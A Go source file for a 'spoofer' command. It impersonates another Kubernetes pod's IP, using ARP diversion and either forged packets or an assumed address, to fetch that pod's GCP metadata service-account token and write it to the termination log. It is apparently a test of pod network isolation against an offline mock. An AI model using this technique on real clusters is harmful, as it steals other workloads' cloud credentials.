// Command spoofer requests a token with the source address of another pod on its node.
//
//	spoofer forge ADDRESS     forges packets with the address of the pod
//	spoofer assume ADDRESS    adds the address of the pod to its own interface and
//	                          opens an ordinary connection
//
// It writes the answer to the file that Kubernetes shows as the termination message. In
// both cases it first diverts the answers from the victim: it sends, from the victim's
// address, an ARP request for the gateway's address. ARP needs CAP_NET_RAW.
package main

import (
	"encoding/json"
	"fmt"
	"net/netip"
	"os"
	"time"
)

// result contains a token in plain text. Only an offline Google accepts it.
type result struct {
	Answer string `json:"answer"` // HTTP response to the request for a token
	Failed string `json:"failed,omitempty"`
}

const (
	timeout      = 10 * time.Second
	tokenRequest = "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.0\r\n" +
		"Host: 169.254.169.254\r\nMetadata-Flavor: Google\r\n\r\n"
)

var server = netip.MustParseAddrPort("169.254.169.254:80")

func main() {
	answer, err := spoof(os.Args[1:])
	r := result{Answer: answer}
	if err != nil {
		r.Failed = err.Error()
	}
	content, err := json.Marshal(r)
	if err == nil {
		err = os.WriteFile("/dev/termination-log", content, 0o600)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func spoof(arguments []string) (string, error) {
	if len(arguments) != 2 {
		return "", fmt.Errorf("want a method, forge or assume, and an address; got %q", arguments)
	}
	victim, err := netip.ParseAddr(arguments[1])
	if err != nil {
		return "", err
	}
	if err := divert(victim); err != nil {
		return "", fmt.Errorf("divert %s: %w", victim, err)
	}
	switch arguments[0] {
	case "forge":
		return forge(victim)
	case "assume":
		return assume(victim)
	}
	return "", fmt.Errorf("unknown method %q: want forge or assume", arguments[0])
}
